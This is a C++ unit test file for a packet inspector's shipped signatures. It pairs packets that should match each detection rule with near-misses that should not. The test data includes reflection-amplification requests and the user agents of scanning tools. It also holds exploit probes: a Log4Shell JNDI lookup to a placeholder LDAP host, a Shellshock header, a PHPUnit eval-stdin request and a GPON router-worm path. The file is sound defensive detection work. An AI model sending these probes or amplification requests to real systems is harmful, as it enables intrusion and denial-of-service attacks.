// Each signature of configs/signatures.yaml: a packet that gets its label, and one near it that
// does not.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <set>
#include <sstream>

#include "control/inspect/signature_file.h"
#include "tests/support/inspected.h"

namespace lull::testing {
namespace {

using namespace std::string_literals;

struct Pair {
    const char* label;
    Sent match;
    Sent near;
};

Sent udp(uint16_t from, uint16_t to, std::string payload) {
    return {.protocol = kProtocolUdp,
            .source_port = from,
            .destination_port = to,
            .payload = std::move(payload)};
}
Sent tcp(uint16_t from, uint16_t to, std::string payload) {
    return {.source_port = from, .destination_port = to, .payload = std::move(payload)};
}
Sent agent(const std::string& name) {
    return tcp(40000, 80, "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: " + name + "\r\n\r\n");
}
std::string pad(std::size_t bytes) {
    return std::string(bytes, 'p');
}

std::string hex(std::string_view text) {
    std::string bytes;
    for (std::size_t i = 0; i + 1 < text.size(); i += 2) {
        bytes += static_cast<char>(std::stoi(std::string(text.substr(i, 2)), nullptr, 16));
    }
    return bytes;
}

/// What is asked of a directory's root entry: (objectClass=*), where `filter` leaves that.
std::string root_entry_search(const std::string& filter = "\x87\x0bobjectClass") {
    return "0\x25\2\1\1\x63\x20\4\0\n\1\0\n\1\0\2\1\0\2\1\0\1\1\0"s + filter + "0\0"s;
}
/// SNMP v2c, of a community, for so many lines.
std::string get_bulk(const std::string& community, char lines) {
    return "0\x26\2\1\1\4"s + static_cast<char>(community.size()) + community +
           "\xa5\x19\2\4\1\2\3\4\2\1\0\2\1"s + lines + "\x30\x0b";
}
std::string discovery(const std::string& action) {
    return "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Header><a:Action>"
           "http://schemas.xmlsoap.org/ws/2005/04/discovery/" +
           action + "</a:Action></s:Header>";
}

std::vector<Pair> reflections() {
    const std::string cookies(16, 'c');
    const std::string core = "\xbb.well-known\4core";
    const std::string types = "\x09_services\7_dns-sd\4_udp\5local\0\0\x0c\0\1"s;
    const std::string one_question = "\1\0\0\1\0\0\0\0\0\0"s;
    const std::string no_number = "\0\0\0\0\0\1\0\0\0\0\0\0"s;
    const std::string call = hex("001122330000000000000002000186a0");
    return {
        {"ntp-monlist", udp(40000, 123, "\x17\0\3\x2a"s + pad(4)),
         udp(40000, 123, "\x17\0\3\x2b"s + pad(4))},
        {"ntp-monlist", udp(123, 80, "\xd7\0\3\x2a"s + pad(440)),
         udp(123, 80, "\xd4\0\3\x2a"s + pad(440))},
        {"ntp-monlist", udp(123, 53, "\x97\0\3\x2a"s + pad(440)),
         udp(124, 53, "\x97\0\3\x2a"s + pad(440))},
        {"ntp-private", udp(40000, 123, "\x17\0\3\x1c"s + pad(188)),
         udp(40000, 123, "\x14\0\3\x1c"s + pad(188))},
        {"ntp-private", udp(123, 80, "\x97\0\3\x1c"s + pad(40)),
         udp(123, 80, "\x97\0\4\x1c"s + pad(40))},
        {"ntp-control", udp(40000, 123, "\x16\2\0\1"s + pad(8)),
         udp(40000, 123, "\x16\1\0\1"s + pad(8))},
        {"ntp-control", udp(123, 80, "\xd6\x82\0\1"s + pad(400)),
         udp(123, 80, "\x16\x42\0\1"s + pad(400))},
        {"dns-any", udp(40000, 53, dns_query(qname("isc.org"), 255)),
         udp(40000, 53, dns_query(qname("isc.org"), 1))},
        {"dns-any", udp(53, 80, dns_query("\0"s, 255, 0x8180) + pad(400)),
         udp(53, 80, dns_query("\0"s, 2, 0x8180) + pad(400))},
        {"dns-large-txt", udp(53, 80, dns_query(qname("a.example"), 16, 0x8180) + pad(1300)),
         udp(53, 80, dns_query(qname("a.example"), 16, 0x8180) + pad(1100))},
        {"ssdp-reflection", udp(1900, 80, "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n"),
         udp(1901, 80, "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n")},
        {"ssdp-search-all",
         udp(40000, 1900,
             "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: ssdp:all\r\n\r\n"),
         udp(40000, 1900,
             "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: urn:x\r\n\r\n")},
        {"ssdp-search-all", udp(80, 1900, "M-SEARCH * HTTP/1.1\r\nST:upnp:rootdevice\r\n\r\n"),
         udp(80, 1900, "M-SEARCH * HTTP/1.1\r\nXST:upnp:rootdevice\r\n\r\n")},
        {"plex-reflection", udp(40000, 32414, "M-SEARCH * HTTP/1.1\r\n\r\n"),
         udp(40000, 32414, "N-SEARCH * HTTP/1.1\r\n\r\n")},
        {"plex-reflection", udp(32410, 40000, "HTTP/1.0 200 OK\r\n"),
         udp(32411, 40000, "HTTP/1.0 200 OK\r\n")},
        {"cldap-reflection", udp(40000, 389, root_entry_search()),
         udp(40000, 389, root_entry_search("\xa0\x1b\xa3\x0c\4\5NtVer\4\3\6\0\0"s))},
        {"cldap-reflection", udp(389, 80, "0\x84\0\0\x0b\1\2\1\1\x64\x84"s + pad(600)),
         udp(389, 80, "0\x84\0\0\0\x90\2\1\1\x64\x84"s + pad(150))},
        {"memcached-reflection", udp(40000, 11211, "\0\1\0\0\0\1\0\0stats\r\n"s),
         udp(40000, 11211, "\0\1\0\0\0\1\0\0version\r\n"s)},
        {"memcached-reflection", udp(11211, 80, "\0\1\0\0\0\5\0\0VALUE a 0 9\r\n"s),
         udp(11211, 80, "\0\1\0\0\0\5\0\0VALID a 0 9\r\n"s)},
        {"snmp-bulk", udp(40000, 161, get_bulk("public", 10)),
         udp(40000, 161, get_bulk("secret", 10))},
        {"snmp-bulk", udp(40000, 161, get_bulk("secret", 100)),
         udp(40000, 161, get_bulk("secret", 50))},
        {"snmp-bulk", udp(161, 80, "0\x82\4\2\2\1\1\4\6secret\xa2\x82"s + pad(1200)),
         udp(161, 80, "0\x81\x90\2\1\1\4\6secret\xa2\x81"s + pad(120))},
        {"chargen-reflection", udp(19, 80, std::string(72, 'A') + "\r\n"),
         udp(19, 80, std::string(71, 'A') + "\r\n")},
        {"qotd-reflection",
         udp(17, 80,
             "\"My spelling is Wobbly.  It's good spelling but it Wobbles, and the letters\""),
         udp(17, 80, "\"My spelling is Wobbly.\"")},
        {"ripv1-reflection", udp(40000, 520, "\1\1\0\0\0\0\0\0"s + pad(16)),
         udp(40000, 520, "\1\2\0\0\0\0\0\0"s + pad(16))},
        {"ripv1-reflection", udp(520, 80, "\2\1\0\0\0\2\0\0"s + pad(496)),
         udp(520, 80, "\2\2\0\0\0\2\0\0"s + pad(496))},
        {"tftp-reflection", udp(40000, 69, "\0\1boot.bin\0Octet\0"s),
         udp(40000, 69, "\0\2boot.bin\0Octet\0"s)},
        {"ws-discovery-reflection", udp(40000, 3702, discovery("Probe")),
         udp(40000, 3702, discovery("Hello"))},
        {"ws-discovery-reflection", udp(3702, 80, discovery("ProbeMatches")),
         udp(3702, 80, discovery("ProbeMisses"))},
        {"coap-reflection", udp(40000, 5683, "\x40\1\x12\x34" + core),
         udp(40000, 5683, "\x40\1\x12\x34\xb4temp"s)},
        {"coap-reflection", udp(5683, 80, "\x60\x45\x12\x34\xc1\x28\xff</a>;rt=\"x\""s + pad(300)),
         udp(5683, 80, "\x60\x45\x12\x34\xc1\x32\xff{\"t\": 21}"s + pad(300))},
        {"mdns-reflection", udp(40000, 5353, "\x12\x34" + one_question + types),
         udp(5353, 5353, no_number + types)},
        {"mdns-reflection", udp(5353, 80, "\0\0\x84\0\0\1\0\1\0\0\0\0"s + types + pad(300)),
         udp(5353, 80, "\0\0\x84\0\0\0\0\1\0\0\0\0"s + types + pad(300))},
        {"isakmp-reflection", udp(500, 80, cookies + "\1\x10\2\0"s + pad(400)),
         udp(500, 80, cookies + "\1\x10\2\0"s + pad(100))},
        {"isakmp-reflection", udp(500, 500, cookies + "\1\x10\2\0"s + pad(400)),
         udp(500, 500, "cccccccc\0\0\0\0\0\0\0\0\1\x10\2\0"s + pad(400))},
        {"portmap-reflection", udp(40000, 111, call + hex("0000000200000004") + pad(16)),
         udp(40000, 111, call + hex("0000000200000003") + pad(16))},
        {"portmap-reflection", udp(111, 80, hex("001122330000000100000000") + pad(200)),
         udp(111, 80, hex("001122330000000100000000") + pad(16))},
    };
}

std::vector<Pair> scanners() {
    return {
        {"zgrab", agent("Mozilla/5.0 zgrab/0.x"), agent("Mozilla/5.0 zgra/0.x")},
        {"masscan-agent", agent("ivre-masscan/1.3"), agent("massscan/1.3")},
        {"nmap-scripts", agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)"),
         agent("Mozilla/5.0 (compatible; Nmap)")},
        {"nikto", agent("Mozilla/5.00 (Nikto/2.1.6)"), agent("Mozilla/5.00 (Nokia)")},
        {"sqlmap", agent("sqlmap/1.7"), agent("sqlmapper")},
        {"nuclei", agent("Nuclei - Open-source project"), agent("Nucleus")},
        {"dir-busters", agent("gobuster/3.1.0"), agent("busters/3.1")},
        {"wpscan", agent("WPScan v3.8"), agent("WordPress/6.0")},
        {"web-scanners", agent("Mozilla/5.0 acunetix"), agent("Mozilla/5.0 Firefox/120.0")},
        {"research-scanners", agent("Mozilla/5.0 (compatible; CensysInspect/1.1)"),
         agent("Mozilla/5.0 (compatible; Googlebot/2.1)")},
        {"sip-scanner",
         udp(5080, 5060, "OPTIONS sip:100@a SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
         udp(5080, 5060, "OPTIONS sip:100@a SIP/2.0\r\nUser-Agent: Asterisk\r\n\r\n")},
        {"log4shell", agent("${jndi:ldap://192.0.2.1/a}"), agent("${java:version}")},
        {"shellshock", agent("() { :;}; /bin/ping"), agent("() { };")},
        {"web-secrets", tcp(40000, 80, "GET /.git/config HTTP/1.1\r\n\r\n"),
         tcp(40000, 80, "GET /git/config HTTP/1.1\r\n\r\n")},
        {"phpunit-probe",
         tcp(40000, 80, "POST /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n"),
         tcp(40000, 80, "POST /vendor/phpunit/src/Util/PHP/stdin.php HTTP/1.1\r\n\r\n")},
        {"adb-probe", tcp(40000, 5555, "CNXN" + pad(20) + "host::\0"s),
         tcp(40000, 5555, "CNXN" + pad(20) + "device::\0"s)},
        {"netbios-probe",
         udp(40000, 137,
             "\1\2\0\0\0\1\0\0\0\0\0\0\x20"s + "CK" + std::string(30, 'A') + "\0\0\x21\0\1"s),
         udp(40000, 137,
             "\1\2\0\0\0\1\0\0\0\0\0\0\x20"s + "CK" + std::string(30, 'A') + "\0\0\x20\0\1"s)},
        {"mozi-download", tcp(40000, 80, "GET /Mozi.m HTTP/1.1\r\n\r\n"),
         tcp(40000, 80, "GET /Mozi.misc HTTP/1.1\r\n\r\n")},
        {"router-worm", tcp(40000, 80, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"),
         tcp(40000, 80, "POST /GponForm/login HTTP/1.1\r\n\r\n")},
    };
}

std::vector<Pair> udp_services() {
    const std::string community = "0\x26\2\1\1\4\6secret"s;
    const std::string cookies(16, 'c');
    const std::string name = "\x20" + std::string(32, 'F') + "\0\0\x20\0\1"s;
    return {
        {"dns", udp(40000, 53, dns_query(qname("a.example"))),
         udp(40000, 54, dns_query(qname("a.example")))},
        {"mdns", udp(5353, 5353, "\0\0\x84\0\0\0\0\1\0\0\0\0"s + pad(60)),
         udp(5353, 5353, dns_query(qname("a.local"), 12, 0x2800))},
        {"ntp", udp(123, 123, "\x63\2\6\xec"s + pad(44)), udp(123, 123, "\x3f\2\6\xec"s + pad(44))},
        {"ssdp", udp(40000, 1900, "NOTIFY * HTTP/1.1\r\n\r\n"),
         udp(40000, 1900, "NOTICE * HTTP/1.1\r\n\r\n")},
        {"cldap", udp(40000, 389, root_entry_search("\xa0\x1b\xa3\x0c\4\5NtVer\4\3\6\0\0"s)),
         udp(40000, 389, "0\x25\2\1\1\x42\0"s)},
        {"snmp", udp(40000, 161, community + "\xa0\x19"s),
         udp(40000, 161, "1\x26\2\1\1\4\6secret\xa0\x19"s)},
        {"quic", udp(40000, 443, "\xc0\0\0\0\1\x08"s + pad(8) + "\0\0\x44\0"s + pad(1024)),
         udp(40000, 443, "\xc0\0\0\0\7\x08"s + pad(8) + "\0\0\x44\0"s + pad(1024))},
        {"bittorrent", udp(6881, 6882, "d1:ad2:id20:"s + pad(20)),
         udp(6881, 6882, "d1:xd2:id20:"s + pad(20))},
        {"stun", udp(40000, 3478, "\0\1\0\0\x21\x12\xa4\x42"s + pad(12)),
         udp(40000, 3478, "\0\1\0\0\x21\x12\xa4\x43"s + pad(12))},
        {"dtls", udp(40000, 4433, "\x16\xfe\xff\0\0"s + pad(40)),
         udp(40000, 4433, "\x16\xfe\xfe\0\0"s + pad(40))},
        {"sip", udp(5080, 5060, "REGISTER sip:a SIP/2.0\r\n"),
         udp(5080, 5060, "REGISTRY sip:a SIP/2.0\r\n")},
        {"dhcp", udp(68, 67, "\1\1\6\0"s + pad(200)), udp(68, 67, "\1\1\7\0"s + pad(200))},
        {"netbios-ns", udp(137, 137, "\1\2\1\x10\0\1\0\0\0\0\0\0"s + name),
         udp(137, 137, "\1\2\1\x10\0\2\0\0\0\0\0\0"s + name)},
        {"ws-discovery", udp(3702, 3702, discovery("Hello")), udp(3702, 3702, discovery("Hallo"))},
        {"syslog", udp(514, 514, "<34>Oct 11 22:14:15 host su: failed"),
         udp(514, 514, "<root>Oct 11 22:14:15 host su: failed")},
        {"isakmp", udp(500, 500, cookies + "\x21\x20\x22\x08"s + pad(40)),
         udp(500, 500, cookies + "\x21\x30\x22\x08"s + pad(40))},
        {"isakmp", udp(4500, 4500, "\0\0\0\0"s + cookies + "\x2e\x20\x23\x08"s + pad(40)),
         udp(4500, 4500, "\0\0\0\1"s + cookies + "\x2e\x20\x23\x08"s + pad(40))},
        {"l2tp", udp(1701, 1701, "\xc8\2\0\x14"s + pad(16)),
         udp(1701, 1701, "\xc8\3\0\x14"s + pad(16))},
        {"wireguard", udp(40000, 51820, "\1\0\0\0"s + pad(144)),
         udp(40000, 51820, "\1\0\0\1"s + pad(144))},
    };
}

std::vector<Pair> tcp_services() {
    const std::string hello = tls_record(client_hello("a.example"));
    return {
        {"dns", tcp(40000, 53, be16(27) + dns_query(qname("a.example"))), tcp(40000, 53, "what?")},
        {"http", tcp(40000, 8080, "GET / HTTP/1.1\r\n\r\n"),
         tcp(40000, 8080, "GETS / HTTP/1.1\r\n\r\n")},
        {"tls", tcp(40000, 8443, hello), tcp(40000, 8443, "\x17"s + hello.substr(1))},
        {"ssh", tcp(22, 40000, "SSH-2.0-OpenSSH_9.2\r\n"), tcp(22, 40000, "SSH-9.0\r\n")},
        {"smtp", tcp(25, 40000, "220 mail.example ESMTP\r\n"), tcp(25, 40000, "221 bye\r\n")},
        {"ftp", tcp(21, 40000, "220 ftp.example\r\n"), tcp(21, 40000, "226 done\r\n")},
        {"pop3", tcp(110, 40000, "+OK ready\r\n"), tcp(110, 40000, "-ERR\r\n")},
        {"imap", tcp(143, 40000, "* OK [CAPABILITY IMAP4rev1]\r\n"), tcp(143, 40000, "* NO\r\n")},
        {"telnet", tcp(23, 40000, "\xff\xfd\x18"s), tcp(23, 40000, "\xff\x18\x18"s)},
        {"ldap", tcp(40000, 389, "0\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0"s),
         tcp(40000, 389, "0\x0c\2\1\1\x20\7\2\1\3\4\0\x80\0"s)},
        {"smb", tcp(40000, 445, "\0\0\0\x54\xfeSMB"s), tcp(40000, 445, "\0\0\0\x54\xfdSMB"s)},
        {"rdp", tcp(40000, 3389, "\3\0\0\x13\x0e\xe0\0\0"s),
         tcp(40000, 3389, "\3\0\0\x13\x0e\xf0\0\0"s)},
        {"vnc", tcp(5900, 40000, "RFB 003.008\n"), tcp(5900, 40000, "RFC 003.008\n")},
        {"mysql", tcp(3306, 40000, "\x4a\0\0\0\n8.0.32\0"s), tcp(3306, 40000, "\x4a\0\0\0\n"s)},
        {"postgresql", tcp(40000, 5432, "\0\0\0\x08\4\xd2\x16\x2f"s),
         tcp(40000, 5432, "\0\0\0\x08\4\xd2\x16\x2e"s)},
        {"mqtt", tcp(40000, 1883, "\x10\x0c\0\4MQTT\4"s), tcp(40000, 1883, "\x10\x0c\0\4MQTR\4"s)},
        {"xmpp", tcp(40000, 5222, "<?xml version='1.0'?><stream:stream to='a'>"),
         tcp(40000, 5222, "<?xml version='1.0'?><html>")},
        {"irc", tcp(40000, 6667, "NICK a\r\nUSER a 0 * a\r\n"), tcp(40000, 6667, "NACK a\r\n")},
        {"bgp", tcp(40000, 179, std::string(16, '\xff') + "\0\x1d\1\4"s),
         tcp(40000, 179, std::string(15, '\xff') + "\0\x1d\1\4"s)},
        {"rtsp", tcp(40000, 554, "DESCRIBE rtsp://a/ RTSP/1.0\r\n"),
         tcp(40000, 554, "DESCRIBE http://a/\r\n")},
        {"rtsp", tcp(40000, 554, "OPTIONS rtsp://a/ RTSP/1.0\r\n"),
         tcp(40000, 554, "OPTIONS * HTTP/1.1\r\n")},
        {"rtmp", tcp(40000, 1935, "\3abcd\0\0\0\0"s + pad(100)),
         tcp(40000, 1935, "\6abcd\0\0\0\0"s + pad(100))},
        {"bittorrent", tcp(40000, 6881, "\x13"s + "BitTorrent protocol"s + pad(48)),
         tcp(40000, 6881, "\x12"s + "BitTorrent protocol"s)},
    };
}

/// At least one an entry of the file; what its pattern is about differs in one thing between the
/// two packets.
std::vector<Pair> pairs() {
    std::vector<Pair> all = reflections();
    for (std::vector<Pair> more : {scanners(), udp_services(), tcp_services()}) {
        all.insert(all.end(), more.begin(), more.end());
    }
    return all;
}

class ShippedSignatures : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        std::ifstream in(LULL_SOURCE_DIR "/configs/signatures.yaml");
        std::ostringstream text;
        text << in.rdbuf();
        auto parsed = parse_signatures(text.str(), "configs/signatures.yaml");
        ASSERT_TRUE(parsed) << ::testing::PrintToString(parsed.error().problems);
        file = new SignatureFile(std::move(*parsed));
        book = new SignatureBook;
        auto signatures = book->adopt(*file);
        ASSERT_TRUE(signatures);
        auto built = InspectSet::build({.signatures = *signatures, .sites = {}});
        ASSERT_TRUE(built) << built.error().message;
        set = built->release();
    }
    static std::string label(LabelId id) { return book->entries()[index_of(id)].name; }
    static std::string label_of(const Sent& sent) { return label_of(*set, sent); }
    static std::string label_of(const InspectSet& by, const Sent& sent) {
        static InspectCounts counts;
        return label(look_at(by, frame_of(sent), counts).label);
    }
    inline static SignatureFile* file = nullptr;
    inline static SignatureBook* book = nullptr;
    inline static InspectSet* set = nullptr;
};

TEST_F(ShippedSignatures, each_packet_gets_its_label_and_the_one_beside_it_does_not) {
    for (const Pair& pair : pairs()) {
        EXPECT_EQ(label_of(pair.match), pair.label) << pair.match.payload;
        EXPECT_NE(label_of(pair.near), pair.label) << pair.near.payload;
    }
}

TEST_F(ShippedSignatures, each_entry_tells_a_pair_apart_by_itself) {
    const std::vector<Pair> all = pairs();
    SignatureBook numbers = *book;
    for (const NamedSignature& entry : file->signatures) {
        EXPECT_FALSE(entry.reference.empty()) << entry.signature.name;
        if (entry.signature.mark != Mark::kNone) {
            continue;
        }
        const auto one = numbers.adopt({{entry}});
        ASSERT_TRUE(one);
        const auto alone = InspectSet::build({.signatures = *one, .sites = {}});
        ASSERT_TRUE(alone) << alone.error().message;
        const auto told = std::count_if(all.begin(), all.end(), [&](const Pair& pair) {
            return pair.label == entry.signature.name &&
                   label_of(**alone, pair.match) == pair.label &&
                   label_of(**alone, pair.near).empty();
        });
        EXPECT_GE(told, 1) << entry.signature.name << " in line " << entry.line
                           << ": no pair of packets here";
    }
}

TEST_F(ShippedSignatures, agents_of_scanners_are_known) {
    const std::vector<std::pair<const char*, const char*>> agents{
        {"nuclei", "httpx - Open-source project (github.com/projectdiscovery/httpx)"},
        {"dir-busters", "DirBuster-1.0-RC1 (http://www.owasp.org/)"},
        {"dir-busters", "feroxbuster/2.7.0"},
        {"dir-busters", "Fuzz Faster U Fool v1.5.0"},
        {"dir-busters", "Wfuzz/3.1.0"},
        {"web-scanners", "Mozilla/5.0 (compatible; Nessus SOAP v0.0.1)"},
        {"web-scanners", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)"},
        {"web-scanners", "Arachni/v1.5.1"},
        {"web-scanners", "w3af.org"},
        {"web-scanners", "Netsparker"},
        {"web-scanners", "ZmEu"},
        {"web-scanners", "Mozilla/5.0 Jorgee"},
        {"web-scanners", "Morfeus Scanner"},
        {"web-scanners", "Mozilla/5.0 Qualys WAS"},
        {"research-scanners",
         "Mozilla/5.0 (compatible; InternetMeasurement/1.0; "
         "+https://internet-measurement.com/)"},
        {"research-scanners",
         "Expanse, a Palo Alto Networks company, searches across the global "
         "IPv4 space multiple times per day"},
        {"research-scanners", "Mozilla/5.0 (Shodan)"},
        {"research-scanners", "Mozilla/5.0 (l9explore/1.2.2)"},
        {"research-scanners", "Mozilla/5.0 (compatible; leakix.net)"},
        {"research-scanners", "NetSystemsResearch studies the availability of various services"},
        {"http", "Wget/1.21.3"},
        {"http", "python-requests/2.28.1"},
        {"http", "Go-http-client/1.1"},
        {"http", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
        {"http", "Mozilla/5.0 (iPhone; CPU iPhone OS 8_1 like Mac OS X) Mobile/12B410"},
    };
    for (const auto& [name, text] : agents) {
        EXPECT_EQ(label_of(agent(text)), name) << text;
    }
}

TEST_F(ShippedSignatures, everyday_traffic_is_never_hostile) {
    const std::vector<Sent> plain{
        udp(40000, 53, dns_query(qname("www.kcna.kp"))),
        udp(53, 40000, dns_query(qname("www.kcna.kp"), 1, 0x8180) + pad(300)),
        udp(53, 40000, dns_query(qname("dkim.example"), 16, 0x8180) + pad(500)),
        udp(123, 123, "\x24\2\6\xec"s + pad(44)),
        udp(40000, 123, "\x1b"s + std::string(47, '\0')),
        agent("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
        agent("curl/7.88.1"),
        tcp(80, 40000, "HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n"),
        tcp(40000, 443, tls_record(client_hello("www.example.org"))),
        udp(40000, 161, "0\x26\2\1\1\4\6public\xa1\x19"s),
        udp(500, 500, std::string(16, 'c') + "\x21\x20\x22\x08"s + pad(400)),
        udp(500, 500, "cccccccc\0\0\0\0\0\0\0\0\1\x10\2\0"s + pad(400)),
        udp(40000, 161, get_bulk("monitoring", 25)),
        udp(5353, 5353, "\0\0\0\0\0\1\0\0\0\0\0\0"s + qname("_ipp._tcp.local") + "\0\x0c\0\1"s),
        udp(40000, 389, root_entry_search("\xa0\x1b\xa3\x0c\4\5NtVer\4\3\6\0\0"s)),
        udp(5683, 40000, "\x60\x45\x12\x34\xc1\x32\xff{\"t\": 21}"s + pad(500)),
        udp(40000, 1900,
            "M-SEARCH * HTTP/1.1\r\nST: urn:dial-multiscreen-org:service:dial:1\r\n\r\n"),
        udp(40000, 27015, "\xff\xff\xff\xffTSource Engine Query\0"s),
        udp(40000, 3478, "\0\1\0\0\x21\x12\xa4\x42"s + pad(12)),
        tcp(40000, 389, "0\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0"s)};
    static InspectCounts counts;
    for (const Sent& sent : plain) {
        const Finding finding = look_at(*set, frame_of(sent), counts);
        EXPECT_FALSE(finding.hostile) << label(finding.label) << ": " << sent.payload;
    }
}

// ---- what headers alone tell ----

struct Syn {
    uint32_t from = 0xc6330101, to = 0xcb000707, sequence = 0x01020304;
    uint16_t from_port = 40000, to_port = 80, identification = 1, window = 512;
    uint8_t flags = kTcpSyn;
};

Finding open_with(Inspector& inspector, const InspectSet& set, const Syn& syn, uint32_t beat = 8) {
    Bytes frame = frame_of({.source_port = syn.from_port,
                            .destination_port = syn.to_port,
                            .payload = "",
                            .flags = syn.flags});
    const auto put = [&](std::size_t at, uint64_t value, int bytes) {
        for (int i = 0; i < bytes; ++i) {
            frame[at + static_cast<std::size_t>(i)] =
                static_cast<uint8_t>(value >> 8 * (bytes - 1 - i));
        }
    };
    put(14 + 4, syn.identification, 2);
    put(14 + 12, syn.from, 4);
    put(14 + 16, syn.to, 4);
    put(14 + 20 + 4, syn.sequence, 4);
    put(14 + 20 + 14, syn.window, 2);
    return inspector.open(set, frame, view_of(frame), beat);
}

TEST_F(ShippedSignatures, each_mark_has_an_entry) {
    std::set<Mark> marks;
    for (const NamedSignature& entry : file->signatures) {
        marks.insert(entry.signature.mark);
    }
    marks.erase(Mark::kNone);
    EXPECT_THAT(marks, ::testing::ElementsAre(Mark::kZmap, Mark::kMasscan, Mark::kMirai,
                                              Mark::kSynScan, Mark::kSynFlood, Mark::kSynAckFlood))
        << "each is tried below";
}

TEST_F(ShippedSignatures, scanners_are_known_by_their_headers) {
    Inspector inspector(0);
    const auto marked = [&](const Syn& syn) {
        return label(open_with(inspector, *set, syn).label);
    };
    EXPECT_EQ(marked({.identification = 54321, .window = 65535}), "zmap");
    EXPECT_EQ(marked({.identification = 54321}), "") << "one in 65,536 has it";
    EXPECT_EQ(marked({.identification = 54322, .window = 65535}), "");
    EXPECT_EQ(marked({.identification = 54321, .flags = kTcpSyn | kTcpAck}), "");
    EXPECT_EQ(marked({.sequence = 0xcb000707}), "mirai-scan");
    EXPECT_EQ(marked({.sequence = 0xcb000708}), "");
    const Syn masscan{.sequence = 0x11112222,
                      .identification = static_cast<uint16_t>(0x0707 ^ 80 ^ 0x2222),
                      .window = 1024};
    EXPECT_EQ(marked(masscan), "masscan");
    Syn other = masscan;
    other.identification += 1;
    EXPECT_EQ(marked(other), "");
}

TEST_F(ShippedSignatures, many_flows_that_nobody_follows_up_are_a_scan_or_a_flood) {
    const auto last_of = [&](auto&& syn_of, bool follow) {
        Inspector inspector(0);
        std::string last;
        for (uint32_t i = 0; i < 1000; ++i) {
            const Syn syn = syn_of(i);
            last = label(open_with(inspector, *set, syn, 8 + i / 200).label);
            if (follow) {
                PacketView view{};
                view.family = Family::kIpv4;
                view.protocol = kProtocolTcp;
                view.source4 = syn.from;
                view.destination4 = syn.to;
                inspector.followed_up(view, 8 + i / 200);
            }
        }
        return last;
    };
    const auto scan = [](uint32_t i) { return Syn{.to = 0x0a000000 + i * 7919}; };
    const auto flood = [](uint32_t i) { return Syn{.from = 0x0a000000 + i * 7919}; };
    const auto reflected = [](uint32_t i) {
        return Syn{.from = 0x0a000000 + i * 7919, .flags = kTcpSyn | kTcpAck};
    };
    EXPECT_EQ(last_of(scan, false), "syn-scan");
    EXPECT_EQ(last_of(flood, false), "syn-flood");
    EXPECT_EQ(last_of(reflected, false), "syn-ack-flood");
    EXPECT_EQ(last_of(scan, true), "") << "a proxy that is answered";
    EXPECT_EQ(last_of(flood, true), "") << "a busy site";
    EXPECT_EQ(last_of([](uint32_t i) { return Syn{.from = i * 7919, .to = i * 104729}; }, false),
              "");
}

}  // namespace
}  // namespace lull::testing
